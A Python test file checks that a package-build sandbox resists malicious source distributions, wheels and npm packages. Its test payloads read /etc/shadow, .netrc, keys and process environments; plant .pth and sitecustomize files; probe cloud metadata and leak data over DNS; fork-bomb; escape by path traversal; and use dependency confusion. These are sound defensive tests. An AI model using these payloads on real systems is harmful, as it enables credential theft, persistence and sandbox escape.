"""Attacks on the build sandbox and on built environments; every one must fail, and none may leak.

Packages come from an index on the loopback interface. A source distribution runs its attacks when
it is built, and puts what it got into the module that it builds, where the test reads it.
"""

import json
import os
import socket
import stat
import threading
from collections.abc import Generator
from contextlib import contextmanager
from pathlib import Path

import pytest

from apexbridge.activation.scripts import ScriptCall
from apexbridge.environments.store import Environment
from apexbridge.errors import DependencyError
from apexbridge.runtime import Runtime
from apexbridge.sandbox.base import ExecutionResult
from apexbridge.settings import Config, load
from apexbridge.skills.model import Skill
from apexbridge.testing import make_skill
from tests.environments.conftest import configure
from tests.environments.package_server import PackageServer, package_server

pytestmark = [pytest.mark.anyio, pytest.mark.needs("bubblewrap"), pytest.mark.unmeasured]

SECRET = "s3cr3t"  # noqa: S105

# Each line of TRIES is `name: expression`; what it returns, or the error's name, is recorded.
PRELUDE = """
import socket, subprocess, urllib.request, glob, ctypes, sys
def read(path):
    with open(path, encoding="utf-8", errors="replace") as file: return file.read(10_000)
def write(path):
    with open(path, "w") as file: file.write("owned")
    return "WRITTEN"
def connect(host, port):
    with socket.create_connection((host, port), 3) as peer: peer.sendall(b"leak"); return "YES"
def through_proxy(target):
    host, port = os.environ["http_proxy"].rpartition("/")[2].split(":")
    with socket.create_connection((host, int(port)), 3) as peer:
        peer.sendall(b"CONNECT " + target.encode() + b" HTTP/1.1\\r\\n\\r\\n")
        return peer.recv(100).decode()
def send_dns():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
        peer.sendto(b"leak", (TARGETS["dns"], TARGETS["dns_port"])); return "SENT"
def abstract():
    with socket.socket(socket.AF_UNIX) as peer:
        peer.connect("\\0" + TARGETS["abstract"]); peer.sendall(b"leak"); return "CONNECTED"
def environments():
    found = ""
    for path in glob.glob("/proc/[0-9]*/environ"):
        try: found += read(path)
        except OSError: pass
    return found + repr(dict(os.environ))
def attempt(name, action):
    try: results[name] = str(action())
    except BaseException as error: results[name] = type(error).__name__
"""
TRIES = {
    "reads the home folder": 'read(TARGETS["home"] + "/private-key")',
    "reads the netrc file": 'read(TARGETS["home"] + "/.netrc")',
    "lists the home folder": 'os.listdir(TARGETS["home"])',
    "reads the data folder": 'read(TARGETS["data"] + "/keys.json")',
    "lists installed skills": 'os.listdir(TARGETS["data"] + "/skills")',
    "reads files of another skill": 'read(TARGETS["data"] + "/skills/victim/notes.txt")',
    "reads another environment": 'read(TARGETS["other"] + "/environment.json")',
    "reads /etc/shadow": 'read("/etc/shadow")',
    "reads secrets of the environment": "environments()",
    "writes into the home folder": 'write(TARGETS["home"] + "/.bashrc")',
    "writes into the data folder": 'write(TARGETS["data"] + "/trust.db")',
    "writes into the skill": 'write(TARGETS["data"] + "/skills/victim/SKILL.md")',
    "writes into /usr": 'write("/usr/local/bin/python3")',
    "plants a .pth in another environment": 'write(TARGETS["site"] + "/x.pth")',
    "plants sitecustomize in another one": 'write(TARGETS["site"] + "/sitecustomize.py")',
    "replaces a program": 'write("/usr/bin/env")',
    "phones another host": 'connect("127.0.0.1", TARGETS["port"])',
    "phones through the proxy": 'through_proxy("127.0.0.1:%d" % TARGETS["port"])',
    "phones by a name through the proxy": 'through_proxy("localhost:%d" % TARGETS["port"])',
    "phones cloud metadata through the proxy": 'through_proxy("169.254.169.254:80")',
    "phones the index on another port": 'through_proxy("127.0.0.1:22")',
    "sends a DNS query": "send_dns()",
    "resolves a name with the secret": 'socket.getaddrinfo("s3cr3t.example.org", 80)',
    "reaches an abstract socket": "abstract()",
    "makes a user namespace": "ctypes.CDLL(None).unshare(0x10000000)",
    "mounts a file system": 'ctypes.CDLL(None).mount(b"none", b"/tmp", b"tmpfs", 0, None)',
    "traces another process": "ctypes.CDLL(None).ptrace(16, 1, 0, 0)",
}
REFUSED = {
    "reads secrets of the environment": SECRET,
    "lists the home folder": "private-key",
    # Into the sandbox's own, empty one, which is gone afterwards: the real one is looked at below.
    "writes into the home folder": SECRET,
    "writes into the data folder": SECRET,
    "writes into the skill": SECRET,
    "sends a DNS query": SECRET,  # on a loopback of its own: what arrives is looked at below
    "makes a user namespace": "0",
    "mounts a file system": "0",
    "traces another process": "0",
    "phones through the proxy": "200",
    "phones by a name through the proxy": "200",
    "phones cloud metadata through the proxy": "200",
    "phones the index on another port": "200",
}
"""What the result must not be; of all others it is the name of an error."""
ERRORS = {"FileNotFoundError", "PermissionError", "OSError", "ConnectionRefusedError", "gaierror",
          "NotADirectoryError", "IndexError", "TimeoutError"}  # fmt: skip


async def _install(runtime: Runtime, place: Path, name: str, **files: str) -> Skill:
    named = {path.replace("__", "/").replace("_", "."): text for path, text in files.items()}
    return (await runtime.manager.install(make_skill(place, name, files=named))).skill


async def _run(runtime: Runtime, skill: Skill, script: str = "") -> ExecutionResult:
    call = ScriptCall(skill=skill, script=script, limits=runtime.script_runner.limits())
    return await runtime.script_runner.execute(call)


async def _build(runtime: Runtime, place: Path, name: str, wanted: str) -> Environment:
    skill = await _install(runtime, place, name, requirements_txt=f"{wanted}\n")
    return (await runtime.dependencies.build(skill)).environments["python"]


def _entries(place: Path) -> set[str]:
    """Everything below the environments folder that is not a lock file of its own."""
    return {path.name for path in place.rglob("*") if path.suffix != ".lock" and path.is_file()}


@contextmanager
def _listeners() -> Generator[tuple[dict[str, object], list[bytes]]]:
    """What an attack may want to reach: TCP, UDP and an abstract socket; and all that came."""
    received, name = list[bytes](), f"apexbridge-test-{os.getpid()}"
    with socket.create_server(("127.0.0.1", 0)) as tcp, \
         socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp, \
         socket.socket(socket.AF_UNIX) as abstract:  # fmt: skip
        udp.bind(("127.0.0.1", 0))
        abstract.bind(f"\0{name}")
        abstract.listen()

        def accept(listener: socket.socket) -> None:
            while True:
                try:
                    peer, _ = listener.accept()
                except OSError:
                    return
                with peer:
                    received.append(peer.recv(100))

        def receive() -> None:
            while data := udp.recv(100):
                received.append(data)

        threads = [threading.Thread(target=accept, args=(one,)) for one in (tcp, abstract)]
        threads.append(threading.Thread(target=receive))
        for thread in threads:
            thread.start()
        port, dns_port = tcp.getsockname()[1], udp.getsockname()[1]
        try:
            yield (
                {"port": port, "dns": "127.0.0.1", "dns_port": dns_port, "abstract": name},
                received,
            )
        finally:
            for one in (tcp, abstract):
                one.shutdown(socket.SHUT_RDWR)
            udp.sendto(b"", udp.getsockname())
            for thread in threads:
                thread.join()


async def test_a_build_reaches_nothing_but_the_index(
    packages: PackageServer,
    loaded: Config,
    home: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("SOME_TOKEN", f"{SECRET}-environment")
    packages.add_wheel("greet", "1.0", {"greet.py": "WORD = 'hello'\n"})
    with _listeners() as (targets, received):
        async with Runtime.open(loaded) as runtime:
            await _install(runtime, tmp_path, "victim", notes_txt=f"{SECRET}-skill")
            other = await _build(runtime, tmp_path, "honest", "greet")
            loaded.data.joinpath("keys.json").write_text(f"{SECRET}-data", "utf-8")
            (site,) = other.path.glob("lib/*/site-packages")
            targets |= {"home": str(home), "data": str(loaded.data), "other": str(other.path),
                        "site": str(site)}  # fmt: skip
            tries = "\n".join(f"attempt({k!r}, lambda: {v})" for k, v in TRIES.items())
            packages.add_source("evil", f"{PRELUDE}TARGETS = {targets!r}\n{tries}")
            evil = await _build(runtime, tmp_path, "hit", "evil")
            results = _results(evil, "evil")
            unchanged = runtime.dependencies.store.is_unchanged(other)
    assert set(results) == set(TRIES)
    for name, got in results.items():
        if name in REFUSED:
            assert REFUSED[name] not in got, f"{name}: {got}"
        else:
            assert got in ERRORS, f"{name}: {got}"
        assert SECRET not in got, name
    assert received == []
    assert unchanged
    assert not (home / ".bashrc").exists()
    assert loaded.data.joinpath("skills/victim/SKILL.md").read_text("utf-8") != "owned"
    assert not loaded.data.joinpath("trust.db").exists()
    assert (home / "private-key").read_text("utf-8") == "s3cr3t-home"


def _results(environment: Environment, name: str) -> dict[str, str]:
    (path,) = environment.path.glob(f"lib/*/site-packages/{name}.py")
    values: dict[str, object] = {}
    exec(path.read_text("utf-8"), values)  # noqa: S102  # one assignment that the backend wrote
    return json.loads(str(values["RESULTS"]))


async def test_a_build_leaves_no_daemon(
    packages: PackageServer, loaded: Config, tmp_path: Path
) -> None:
    marker = f"daemon-of-test-{os.getpid()}"
    packages.add_source(
        "evil",
        f"""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 64)  # uv would wait for its output
        os.execvp("python3", ["python3", "-c", "import time; time.sleep(600)", "{marker}"])
    os._exit(0)
import time; time.sleep(0.3)
results["started"] = "yes"
""",
    )
    async with Runtime.open(loaded) as runtime:
        built = await _build(runtime, tmp_path, "hit", "evil")
    assert _results(built, "evil") == {"started": "yes"}
    assert not any(marker in _command_line(path) for path in Path("/proc").glob("[0-9]*"))


def _command_line(process: Path) -> str:
    try:
        return (process / "cmdline").read_text("utf-8", errors="replace")
    except OSError:
        return ""


async def test_a_fork_bomb_meets_the_limit_of_processes(
    packages: PackageServer, loaded: Config, tmp_path: Path
) -> None:
    packages.add_source(
        "evil",
        """
import signal
pids = []
try:
    while len(pids) < 5_000:
        pid = os.fork()
        if pid == 0: signal.pause()
        pids.append(pid)
except OSError as error:
    results["stopped"] = type(error).__name__
for pid in pids: os.kill(pid, signal.SIGKILL)
for pid in pids: os.waitpid(pid, 0)
results["count"] = str(len(pids))
""",
    )
    async with Runtime.open(loaded) as runtime:
        built = await _build(runtime, tmp_path, "hit", "evil")
    results = _results(built, "evil")
    assert results["stopped"] == "BlockingIOError"
    assert int(results["count"]) <= 256


PLANTS = {
    "a link to a file outside": 'os.symlink("/etc/passwd", site + "/passwd")',
    "a link to a folder outside": 'os.symlink("/root", env + "/share")',
    "a relative link that leads out": 'os.symlink("../../../../..", site + "/up")',
    "a link through a link": 'os.symlink(".", env + "/a"); os.symlink("a/../../x", env + "/b")',
    "another interpreter by a link": 'os.symlink("/usr/bin/perl", env + "/bin/pip")',
    "a hard link": 'os.link(env + "/bin/activate", env + "/twin")',
    "a named pipe": 'os.mkfifo(site + "/pipe")',
    "a socket": 'import socket; os.chdir(env); socket.socket(socket.AF_UNIX).bind("s")',
}


@pytest.mark.parametrize("plant", PLANTS.values(), ids=PLANTS)
async def test_what_a_build_plants_in_its_environment_discards_it(
    packages: PackageServer, loaded: Config, tmp_path: Path, plant: str
) -> None:
    packages.add_source(
        "evil",
        f"""
import glob
env = os.environ["TMPDIR"].rpartition("/")[0] + "/env"
for site in glob.glob(env + "/lib/*/site-packages"):
    {plant}
""",
    )
    async with Runtime.open(loaded) as runtime:
        with pytest.raises(DependencyError) as caught:
            await _build(runtime, tmp_path, "hit", "evil")
        assert caught.value.code == "dependencies_unsafe"
        assert runtime.dependencies.store.all() == []
    staging = loaded.data / "environments/.staging"
    assert _entries(staging) == set()


async def test_a_build_cannot_make_a_set_user_id_program(
    packages: PackageServer, loaded: Config, tmp_path: Path
) -> None:
    packages.add_source(
        "evil",
        """
env = os.environ["TMPDIR"].rpartition("/")[0] + "/env"
try:
    os.chmod(env + "/bin/activate", 0o4755)
    results["made"] = "YES"
except OSError as error:
    results["made"] = type(error).__name__
""",
    )
    async with Runtime.open(loaded) as runtime:
        built = await _build(runtime, tmp_path, "hit", "evil")
    assert _results(built, "evil") == {"made": "PermissionError"}
    assert not [path for path in built.path.rglob("*") if path.lstat().st_mode & 0o6000]


async def test_a_build_cannot_choose_the_interpreter_that_scripts_run_with(
    packages: PackageServer, loaded: Config, tmp_path: Path
) -> None:
    packages.add_source(
        "evil",
        """
import glob
env = os.environ["TMPDIR"].rpartition("/")[0] + "/env"
for name in glob.glob(env + "/bin/python*"):
    os.unlink(name)
    with open(name, "w") as file: file.write("#!/bin/sh\\necho OWNED\\n")
    os.chmod(name, 0o755)
if os.path.isdir(env):
    with open(env + "/pyvenv.cfg", "w") as file: file.write("home = /tmp\\n")
""",
    )
    async with Runtime.open(loaded) as runtime:
        skill = await _install(
            runtime, tmp_path, "hit", requirements_txt="evil", scripts__main_py="print('mine')"
        )
        await runtime.dependencies.build(skill)
        result = await _run(runtime, skill)
    assert (result.stdout, result.exit_code) == (b"mine\n", 0)


async def test_a_planted_sitecustomize_reaches_no_other_skill(
    packages: PackageServer, loaded: Config, home: Path, tmp_path: Path
) -> None:
    packages.add_wheel("greet", "1.0", {"greet.py": "WORD = 'hello'\n"})
    spy = (
        "import os\n"
        f"for path in ({str(home / 'private-key')!r}, {str(loaded.data)!r} + '/environments'):\n"
        "    try: print('LEAK', os.listdir(path) if os.path.isdir(path) else open(path).read())\n"
        "    except OSError as error: print(type(error).__name__)\n"
    )
    packages.add_wheel(
        "evil", "1.0", {"sitecustomize.py": spy, "evil.pth": "import sitecustomize\n"}
    )
    async with Runtime.open(loaded) as runtime:
        other = await _build(runtime, tmp_path, "honest", "greet")
        skill = await _install(
            runtime, tmp_path, "hit", requirements_txt="evil", scripts__main_py="print('mine')"
        )
        await runtime.dependencies.build(skill)
        printed = (await _run(runtime, skill)).stdout.decode()
    assert printed.endswith("mine\n")
    assert SECRET not in printed
    assert other.key not in printed


async def test_an_environment_cannot_be_changed_by_a_script_and_a_change_is_detected(
    packages: PackageServer, loaded: Config, tmp_path: Path
) -> None:
    packages.add_wheel("greet", "1.0", {"greet.py": "WORD = 'hello'\n"})
    source = (
        "import greet, os\n"
        "for act in (lambda: open(greet.__file__, 'a'), lambda: os.unlink(greet.__file__),\n"
        "            lambda: os.chmod(greet.__file__, 0o666),\n"
        "            lambda: open(os.path.dirname(greet.__file__) + '/x.pth', 'w')):\n"
        "    try: act(); print('CHANGED')\n"
        "    except OSError as error: print(error.strerror)\n"
    )
    async with Runtime.open(loaded) as runtime:
        skill = await _install(
            runtime, tmp_path, "hit", requirements_txt="greet", scripts__main_py=source
        )
        built = (await runtime.dependencies.build(skill)).environments["python"]
        printed = (await _run(runtime, skill)).stdout.decode().splitlines()
        assert set(printed) <= {"Read-only file system", "Permission denied"}
        assert len(printed) == 4
        (module,) = built.path.glob("lib/*/site-packages/greet.py")
        assert not module.stat().st_mode & (stat.S_IWUSR | stat.S_IWGRP | stat.S_IWOTH)
        module.chmod(0o644)
        module.write_text("WORD = 'changed'\n", "utf-8")
        assert (await runtime.dependencies.show(skill, verifies=True)).changed == (built.key,)
        assert [one.key for one in await runtime.dependencies.collect_garbage()] == [built.key]
        again = (await runtime.dependencies.build(skill)).environments["python"]
        assert (again.key, runtime.dependencies.store.is_unchanged(again)) == (built.key, True)


@pytest.mark.parametrize(
    "line",
    ["--extra-index-url {url}\ngreet", "--index-url {url}\ngreet", "greet --index-url {url}",
     "--find-links {url}\ngreet", "greet @ {url}/greet-9.0-py3-none-any.whl", "-i {url}\ngreet"],
)  # fmt: skip
async def test_dependency_confusion_by_another_index_reaches_nobody(
    packages: PackageServer, loaded: Config, tmp_path: Path, line: str
) -> None:
    packages.add_wheel("greet", "1.0", {"greet.py": "WORD = 'hello'\n"})
    with package_server() as attacker:
        attacker.add_wheel("greet", "9.0", {"greet.py": "WORD = 'owned'\n"})
        wanted = f"{line.format(url=attacker.index)}\n"
        async with Runtime.open(loaded) as runtime:
            skill = await _install(runtime, tmp_path, "hit", requirements_txt=wanted)
            report = await runtime.dependencies.build(skill)
        assert attacker.requests == []
    for built in report.environments.values():
        assert built.packages == ("greet==1.0",)


@pytest.mark.parametrize(
    "name", ["../../../../escaped.py", "/tmp/escaped.py", "a/../../../escaped.py"]
)
async def test_a_wheel_with_path_traversal_writes_nothing_outside(
    packages: PackageServer, loaded: Config, tmp_path: Path, name: str
) -> None:
    packages.add_wheel("evil", "1.0", {name: "owned", "evil.py": ""})
    async with Runtime.open(loaded) as runtime:
        try:
            built = await _build(runtime, tmp_path, "hit", "evil")
        except DependencyError as error:
            assert error.code == "dependencies_failed"  # noqa: PT017
        else:
            assert not list(built.path.rglob("escaped.py"))
    assert not list(tmp_path.rglob("escaped.py"))
    assert not Path("/tmp/escaped.py").exists()


async def test_a_file_that_differs_from_the_lock_is_refused(
    packages: PackageServer, loaded: Config, tmp_path: Path
) -> None:
    packages.add_wheel("greet", "1.0", {"greet.py": "WORD = 'hello'\n"})
    async with Runtime.open(loaded) as runtime:
        skill = await _install(runtime, tmp_path, "hit", requirements_txt="greet\n")
        await runtime.dependencies.lock(skill)
        packages.add_wheel("greet", "1.0", {"greet.py": "WORD = 'owned'\n"})
        with pytest.raises(DependencyError, match=r"(?i)hash"):
            await runtime.dependencies.build(skill)
        assert runtime.dependencies.store.all() == []


async def test_install_scripts_of_npm_packages_do_not_run(
    packages: PackageServer, loaded: Config, tmp_path: Path
) -> None:
    ran = "touch $HOME/../env/RAN; touch ../../RAN"
    packages.add_npm(
        "evil",
        {"index.js": "", "binding.gyp": "{}"},
        scripts=dict.fromkeys(("preinstall", "install", "postinstall", "prepare"), ran),
    )
    async with Runtime.open(loaded) as runtime:
        skill = await _install(
            runtime, tmp_path, "hit", package_json='{"dependencies": {"evil": "1"}}'
        )
        built = (await runtime.dependencies.build(skill)).environments["node"]
    assert not list(built.path.rglob("RAN"))


@pytest.mark.parametrize("target", ["../../../../../../etc/passwd", "/etc/passwd"])
async def test_a_command_of_an_npm_package_links_to_nothing_outside(
    packages: PackageServer, loaded: Config, tmp_path: Path, target: str
) -> None:
    packages.add_npm("evil", {"index.js": ""}, bin={"evil": target, "../../up": "index.js"})
    async with Runtime.open(loaded) as runtime:
        skill = await _install(
            runtime, tmp_path, "hit", package_json='{"dependencies": {"evil": "1"}}'
        )
        try:
            built = (await runtime.dependencies.build(skill)).environments["node"]
        except DependencyError as error:
            assert error.code in {"dependencies_unsafe", "dependencies_failed"}  # noqa: PT017
            return
    for path in built.path.rglob("*"):
        if path.is_symlink():
            assert path.resolve().is_relative_to(built.path.resolve())


async def test_an_npm_package_that_differs_from_its_hash_is_refused(
    packages: PackageServer, loaded: Config, tmp_path: Path
) -> None:
    packages.add_npm("greet", {"index.js": "honest"})
    async with Runtime.open(loaded) as runtime:
        skill = await _install(
            runtime, tmp_path, "hit", package_json='{"dependencies": {"greet": "1"}}'
        )
        await runtime.dependencies.lock(skill)
        packages.add_npm("greet", {"index.js": "owned"})
        with pytest.raises(DependencyError, match=r"(?i)integrity"):
            await runtime.dependencies.build(skill)
        assert runtime.dependencies.store.all() == []


async def test_a_build_that_fills_the_disk_is_stopped_and_leaves_nothing(
    packages: PackageServer, home: Path, tmp_path: Path
) -> None:
    packages.add_source(
        "evil",
        """
import time
for number in range(400):
    with open(f"{os.environ['TMPDIR']}/{number}", "wb") as file: file.write(bytes(1 << 20))
    time.sleep(0.01)
""",
    )
    loaded = configure(packages, home, tmp_path, max_mib="64")
    async with Runtime.open(loaded) as runtime:
        with pytest.raises(DependencyError) as caught:
            await _build(runtime, tmp_path, "hit", "evil")
    assert caught.value.code == "dependencies_too_large"
    assert _entries(loaded.data / "environments/.staging") == set()
    assert not list(loaded.data.glob("environments/*/environment.json"))


async def test_a_build_without_end_is_stopped(
    packages: PackageServer, home: Path, tmp_path: Path
) -> None:
    packages.add_source("evil", "import time\ntime.sleep(3600)")
    loaded = configure(packages, home, tmp_path, timeout_seconds="6")
    async with Runtime.open(loaded) as runtime:
        with pytest.raises(DependencyError) as caught:
            await _build(runtime, tmp_path, "hit", "evil")
    assert caught.value.code == "dependencies_timeout"


async def test_credentials_of_the_index_reach_no_package_script_lock_or_message(
    packages: PackageServer, home: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    packages.password = "s3cr3t-index"  # noqa: S105
    packages.add_wheel("greet", "1.0", {"greet.py": "WORD = 'hello'\n"})
    packages.add_source("evil", "results['env'] = repr(dict(os.environ))")
    url = f"http://me:{packages.password}@127.0.0.1:{packages.port}/simple"
    variables = {"HOME": str(home), "PATH": os.environ["PATH"], "UV_DEFAULT_INDEX": url}
    loaded = load(project=tmp_path, environment=variables)
    async with Runtime.open(loaded) as runtime:
        await _build(runtime, tmp_path, "honest", "greet")
        # Its build could read them, so it is not built.
        with pytest.raises(DependencyError) as caught:
            await _build(runtime, tmp_path, "hit", "evil")
        with pytest.raises(DependencyError) as absent:
            await _build(runtime, tmp_path, "third", "no-such-thing")
    assert caught.value.code == "dependencies_source_private"
    said = f"{caught.value} {caught.value.details} {absent.value} {absent.value.details}"
    assert packages.password not in said + caplog.text + repr(loaded)
    assert any(packages.password in one for one in packages.credentials)
    kept = [path for path in loaded.data.rglob("*") if path.is_file()]
    assert not [path for path in kept if packages.password.encode() in path.read_bytes()]


async def test_a_killed_build_leaves_nothing_that_looks_built(
    packages: PackageServer, loaded: Config, tmp_path: Path
) -> None:
    packages.add_wheel("greet", "1.0", {"greet.py": "WORD = 'hello'\n"})
    left = loaded.data / "environments/.staging/0123456789abcdef"
    (left / "env/bin").mkdir(parents=True)
    (left / "env/environment.json").write_text("{}", "utf-8")
    left.with_suffix(".lock").touch()
    damaged = loaded.data / "environments" / ("f" * 32)
    damaged.mkdir()
    async with Runtime.open(loaded) as runtime:
        assert runtime.dependencies.store.all() == []
        await _build(runtime, tmp_path, "honest", "greet")
        await runtime.dependencies.collect_garbage()
    assert not left.exists()
